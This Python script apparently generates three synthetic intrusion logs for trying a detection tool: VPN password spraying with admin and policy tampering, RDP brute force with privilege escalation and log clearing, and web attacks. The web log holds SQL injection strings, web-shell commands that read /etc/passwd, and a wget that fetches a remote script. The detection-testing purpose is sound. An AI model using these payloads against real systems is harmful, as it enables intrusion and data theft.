#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the three sample logs to try `yagura detect` on: stories.py FOLDER

Everything in them is invented: firms, people, machines. Addresses are those reserved for
documentation. The same script always writes the same bytes.
"""
import datetime
import json
import pathlib
import random
import sys

JST = datetime.timezone(datetime.timedelta(hours=9))
INTRUDER_VPN = "203.0.113.66"
INTRUDER_RDP = "203.0.113.120"
INTRUDER_WEB = "203.0.113.45"


def at(day, hour, minute=0, second=0):
    return datetime.datetime(2026, 3, day, hour, minute, second, tzinfo=JST)


def seconds(number):
    return datetime.timedelta(seconds=number)


class Log:
    """Lines with their times, written in the order of time."""

    def __init__(self):
        self.rows = []

    def add(self, time, line):
        self.rows.append((time, len(self.rows), line))

    def write(self, path):
        text = "".join(line + "\n" for _, _, line in sorted(self.rows))
        path.write_text(text, encoding="utf-8")
        print("%s: %d lines" % (path, len(self.rows)))


# ---- 1. The VPN and firewall device of a small factory -------------------------------------

STAFF = {"sato": "198.51.100.23", "suzuki": "198.51.100.87", "takahashi": "198.51.100.140",
         "tanaka": "198.51.100.201", "ito": "198.51.100.58"}


def device(time, logid, kind, subtype, level, rest):
    return ('date=%s time=%s devname="FGT-KOJO" devid="FGT60FTK26000001" eventtime=%d tz="+0900" '
            'logid="%s" type="%s" subtype="%s" level="%s" vd="root" %s' % (
                time.strftime("%Y-%m-%d"), time.strftime("%H:%M:%S"),
                int(time.timestamp()) * 1000000000, logid, kind, subtype, level, rest))


def vpn(log, time, user, address, is_ok, reason="sslvpn_login_permission_denied"):
    if is_ok:
        rest = ('logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" '
                'tunnelid=%d remip=%s tunnelip=10.212.134.%d user="%s" group="VPN-STAFF" '
                'dst_host="N/A" reason="tunnel established" msg="SSL tunnel established"' % (
                    1773000000 + len(log.rows), address, 200 + len(user) % 10, user))
        log.add(time, device(time, "0101039947", "event", "vpn", "information", rest))
    else:
        rest = ('logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" '
                'tunnelid=0 remip=%s user="%s" group="N/A" dst_host="N/A" reason="%s" '
                'msg="SSL user failed to logged in"' % (address, user, reason))
        log.add(time, device(time, "0101039426", "event", "vpn", "alert", rest))


def traffic(log, time, source, target, port, action, sent, received, roles=("lan", "wan")):
    names = {443: "HTTPS", 80: "HTTP", 53: "DNS", 445: "SMB", 3389: "RDP", 123: "NTP"}
    rest = ('srcip=%s srcport=%d srcintf="%s" srcintfrole="%s" dstip=%s dstport=%d dstintf="%s" '
            'dstintfrole="%s" proto=6 action="%s" policyid=%d service="%s" sentbyte=%d '
            'rcvdbyte=%d' % (source, 49152 + len(log.rows) % 16000,
                             "internal" if roles[0] == "lan" else "ssl.root", roles[0], target,
                             port, "wan1" if roles[1] == "wan" else "internal", roles[1], action,
                             0 if action == "deny" else 3, names.get(port, "tcp/%d" % port), sent,
                             received))
    level = "warning" if action == "deny" else "notice"
    log.add(time, device(time, "0000000013", "traffic", "forward", level, rest))


def administration(log, time, user, address, logid, rest):
    log.add(time, device(time, logid, "event", "system", "information",
                         'user="%s" ui="https(%s)" %s' % (user, address, rest)))


def vpn_story(rng):
    log = Log()
    for day in range(9, 14):
        for user, address in STAFF.items():
            begin = at(day, 8, rng.randrange(0, 50), rng.randrange(60))
            if rng.random() < 0.25:
                vpn(log, begin - seconds(40), user, address, False)
            vpn(log, begin, user, address, True)
        for _ in range(130):
            time = at(day, rng.randrange(8, 19), rng.randrange(60), rng.randrange(60))
            port = rng.choice((443, 443, 443, 80, 53, 123))
            traffic(log, time, "192.168.10.%d" % rng.randrange(30, 60),
                    "198.51.100.%d" % rng.randrange(210, 250), port, "close",
                    rng.randrange(400, 90000), rng.randrange(900, 4000000))
        administration(log, at(day, 9, 5, day), "admin", "192.168.10.5", "0100032001",
                       'logdesc="Admin login successful" method="https" srcip=192.168.10.5 '
                       'dstip=192.168.10.1 action="login" status="success" reason="none" '
                       'msg="Administrator admin logged in successfully from https(192.168.10.5)"')
        for _ in range(9):
            time = at(day, rng.randrange(0, 24), rng.randrange(60), rng.randrange(60))
            traffic(log, time, "192.0.2.%d" % rng.randrange(1, 250), "203.0.113.1",
                    rng.choice((23, 22, 8080, 5060)), "deny", 0, 0, ("wan", "lan"))
    vpn_attack(log, rng)
    return log


def vpn_attack(log, rng):
    time = at(12, 2, 11, 7)
    for number in range(86):
        user = rng.choice(("admin", "vpn", "guest", "test", "tanaka", "tanaka", "suzuki", "backup"))
        reason = "sslvpn_login_permission_denied" if user in STAFF else "sslvpn_login_unknown_user"
        vpn(log, time, user, INTRUDER_VPN, False, reason)
        time += seconds(rng.randrange(9, 55) + number % 3)
    vpn(log, time + seconds(20), "tanaka", INTRUDER_VPN, True)
    inner = "10.212.134.206"
    time += seconds(150)
    for port in (21, 22, 23, 25, 80, 88, 110, 135, 139, 143, 389, 443, 445, 593, 636, 1433, 3268,
                 3306, 3389, 5432, 5900, 5985, 8080, 9389):
        action = "close" if port in (445, 3389) else "deny"
        traffic(log, time, inner, "192.168.10.20", port, action, 312, 540, ("lan", "lan"))
        time += seconds(2)
    time += seconds(320)
    administration(log, time, "admin", inner, "0100032001",
                   'logdesc="Admin login successful" method="https" srcip=%s dstip=192.168.10.1 '
                   'action="login" status="success" reason="none" msg="Administrator admin logged '
                   'in successfully from https(%s)"' % (inner, inner))
    steps = (
        (70, "0100044547", 'logdesc="Object attribute configured" action="Add" cfgtid=88 '
         'cfgpath="system.admin" cfgobj="fg-support" cfgattr="accprofile[super_admin]" '
         'msg="Add system.admin fg-support"'),
        (95, "0100044547", 'logdesc="Object attribute configured" action="Add" cfgtid=89 '
         'cfgpath="firewall.policy" cfgobj="31" cfgattr="srcintf[ssl.root]dstintf[internal]'
         'srcaddr[all]dstaddr[all]action[accept]service[ALL]" msg="Add firewall.policy 31"'),
        (60, "0100032095", 'logdesc="Admin performed an action from GUI" action="download" '
         'status="success" msg="System config file has been downloaded by user admin via GUI"'),
        (45, "0100044547", 'logdesc="Object attribute configured" action="Edit" cfgtid=90 '
         'cfgpath="log.disk.setting" cfgattr="status[enable->disable]" '
         'msg="Edit log.disk.setting"'))
    for wait, logid, rest in steps:
        time += seconds(wait)
        administration(log, time, "admin", inner, logid, rest)
    time += seconds(2400)
    traffic(log, time, "192.168.10.20", "203.0.113.66", 443, "close", 4731562880, 11234567)


# ---- 2. Windows sign-in events of a server ---------------------------------------------------

PEOPLE = ("sato", "suzuki", "takahashi", "tanaka", "ito", "yamamoto", "kobayashi")


def windows(log, time, event, data, channel="Security",
            provider="Microsoft-Windows-Security-Auditing"):
    stamp = time.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
    record = {"Event": {"System": {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": event,
        "TimeCreated": {"#attributes": {"SystemTime": stamp}},
        "EventRecordID": 40000 + len(log.rows), "Channel": channel,
        "Computer": "SV01.yagurashoji.example"}, "EventData": data}}
    log.add(time, json.dumps(record, separators=(",", ":")))


def sign_in(log, time, user, address, kind, is_ok, status="0xc000006a"):
    data = {"SubjectUserName": "SV01$" if is_ok else "-", "TargetUserName": user,
            "TargetDomainName": "YAGURASHOJI", "LogonType": kind,
            "LogonProcessName": "User32 " if kind in (2, 7, 10) else "NtLmSsp ",
            "AuthenticationPackageName": "Negotiate" if kind in (2, 7, 10) else "NTLM",
            "WorkstationName": "SV01" if kind != 3 else "-", "IpAddress": address, "IpPort": "0"}
    if not is_ok:
        data.update(Status="0xc000006d", SubStatus=status, FailureReason="%%2313")
    windows(log, time, 4624 if is_ok else 4625, data)


def windows_story(rng):
    log = Log()
    for day in range(9, 14):
        for number, user in enumerate(PEOPLE):
            address = "192.168.20.%d" % (31 + number)
            for _ in range(rng.randrange(6, 11)):
                time = at(day, rng.randrange(8, 19), rng.randrange(60), rng.randrange(60))
                if rng.random() < 0.06:
                    sign_in(log, time - seconds(12), user, address, 3, False)
                sign_in(log, time, user, address, 3, True)
                windows(log, time + seconds(rng.randrange(60, 2400)), 4634,
                        {"TargetUserName": user, "TargetDomainName": "YAGURASHOJI",
                         "LogonType": 3})
        sign_in(log, at(day, 7, 40, 5), "administrator", "127.0.0.1", 2, True)
    windows_attack(log, rng)
    return log


def windows_attack(log, rng):
    time = at(13, 1, 2, 44)
    for number in range(188):
        user = rng.choice(("administrator", "administrator", "admin", "backup", "user", "scan"))
        status = "0xc000006a" if user in ("administrator", "backup") else "0xc0000064"
        sign_in(log, time, user, INTRUDER_RDP, 3 if number % 5 else 10, False, status)
        time += seconds(rng.randrange(3, 19))
    time += seconds(31)
    sign_in(log, time, "backup", INTRUDER_RDP, 10, True)
    steps = (
        (240, 4720, {"TargetUserName": "support01", "TargetDomainName": "SV01",
                     "SubjectUserName": "backup"}),
        (20, 4732, {"MemberSid": "S-1-5-21-1111-2222-3333-1104", "TargetUserName":
                    "Administrators", "TargetSid": "S-1-5-32-544", "SubjectUserName": "backup"}),
        (35, 4728, {"MemberName": "CN=support01", "TargetUserName": "Domain Admins",
                    "TargetSid": "S-1-5-21-1111-2222-3333-512", "SubjectUserName": "backup"}))
    for wait, event, data in steps:
        time += seconds(wait)
        windows(log, time, event, data)
    time += seconds(600)
    sign_in(log, time, "support01", INTRUDER_RDP, 10, True)
    time += seconds(1500)
    windows(log, time, 1102, {"SubjectUserName": "support01", "SubjectDomainName": "SV01"},
            provider="Microsoft-Windows-Eventlog")


# ---- 3. The web server of a small firm -------------------------------------------------------

PAGES = (("/", 9120), ("/company/", 6230), ("/products/", 11840), ("/news/2026/03.html", 4410),
         ("/contact/", 5210), ("/recruit/", 7015))
PARTS = (("/css/site.css", 14022), ("/js/site.js", 20511), ("/images/logo.png", 8812),
         ("/images/top.jpg", 120344))
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/19.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0")
SITE = "https://www.yagura-kinzoku.example"


def hit(log, time, address, request, status, size, referer="-", agent=BROWSERS[0]):
    log.add(time, '%s - - [%s] "%s HTTP/1.1" %d %s "%s" "%s"' % (
        address, time.strftime("%d/%b/%Y:%H:%M:%S %z"), request, status, size or "-", referer,
        agent))


def visit(log, rng, day):
    address = "198.51.100.%d" % rng.randrange(1, 255)
    agent = rng.choice(BROWSERS)
    time = at(day, rng.randrange(7, 23), rng.randrange(60), rng.randrange(60))
    referer = "https://search.example/"
    for number in range(rng.randrange(1, 5)):
        path, size = rng.choice(PAGES)
        hit(log, time, address, "GET " + path, 200, size, referer, agent)
        if number == 0:
            for part, part_size in PARTS:
                hit(log, time + seconds(1), address, "GET " + part, 200, part_size, SITE + path,
                    agent)
        referer = SITE + path
        time += seconds(rng.randrange(8, 180))
    if rng.random() < 0.4:
        item = rng.randrange(1, 40)
        hit(log, time, address, "GET /products/detail.php?id=%d" % item, 200, 5980 + item,
            referer, agent)


def web_story(rng):
    log = Log()
    for day in range(10, 14):
        for _ in range(34):
            visit(log, rng, day)
        for number in range(24):
            time = at(day, number, rng.randrange(60), rng.randrange(60))
            hit(log, time, "192.0.2.200", "GET " + PAGES[number % len(PAGES)][0], 200,
                PAGES[number % len(PAGES)][1], "-",
                "Mozilla/5.0 (compatible; Examplebot/2.1; +https://bot.example/about)")
        for path in ("/.env", "/wp-login.php", "/.git/config"):
            time = at(day, rng.randrange(24), rng.randrange(60), rng.randrange(60))
            hit(log, time, "192.0.2.%d" % rng.randrange(10, 190), "GET " + path, 404, 196, "-",
                "python-requests/2.32")
    web_attack(log, rng)
    return log


def web_attack(log, rng):
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
    time = at(13, 3, 20, 11)
    for number in range(120):
        hit(log, time, INTRUDER_WEB, "GET /%s" % rng.choice(
            ("admin%d/", "old%d.php", "test%d.cgi", "cgi-bin/%d", "db%d/", "login%d.asp"))
            % number, 404, 196, "-", nikto % (700 + number))
        time += seconds(rng.randrange(0, 2))
    for path in ("/server-status", "/phpmyadmin/", "/backup.zip", "/phpinfo.php"):
        hit(log, time, INTRUDER_WEB, "GET " + path, 404, 196, "-", nikto % 900)
        time += seconds(2)
    time = at(13, 3, 41, 2)
    tries = ("1'", "1%20and%201=1", "1%20and%201=2", "1'%20or%20'1'='1", "1%20order%20by%208--%20",
             "-1%20union%20select%201,2,3,4,5,6", "1%20and%20sleep(5)",
             "-1%20union%20select%201,table_name,3,4,5,6%20from%20information_schema.tables",
             "1%20and%20extractvalue(1,concat(0x7e,version()))")
    for number in range(54):
        value = tries[number % len(tries)]
        status = 500 if "extractvalue" in value or value == "1'" else 200
        size = 18204 + number if "information_schema" in value else 5981
        hit(log, time, INTRUDER_WEB, "GET /products/detail.php?id=" + value, status,
            612 if status == 500 else size)
        time += seconds(rng.randrange(2, 9))
    time = at(13, 4, 5, 30)
    hit(log, time, INTRUDER_WEB, "GET /contact/upload.php", 200, 2210)
    hit(log, time + seconds(25), INTRUDER_WEB, "POST /contact/upload.php", 200, 341,
        SITE + "/contact/upload.php")
    for number, command in enumerate(("whoami", "id", "uname%20-a", "ls%20-la%20/var/www",
                                      "cat%20/etc/passwd")):
        hit(log, time + seconds(60 + 20 * number), INTRUDER_WEB,
            "GET /uploads/2026/photo.php?cmd=" + command, 200, 180 + 97 * number)
    hit(log, time + seconds(200), INTRUDER_WEB, "GET /uploads/2026/photo.php?cmd=wget%20"
        "http://203.0.113.46/k.sh", 200, 64)


def main():
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "samples")
    vpn_story(random.Random(20260301)).write(folder / "vpn-utm.log")
    windows_story(random.Random(20260302)).write(folder / "windows-signin.json")
    web_story(random.Random(20260303)).write(folder / "web-access.log")


if __name__ == "__main__":
    main()
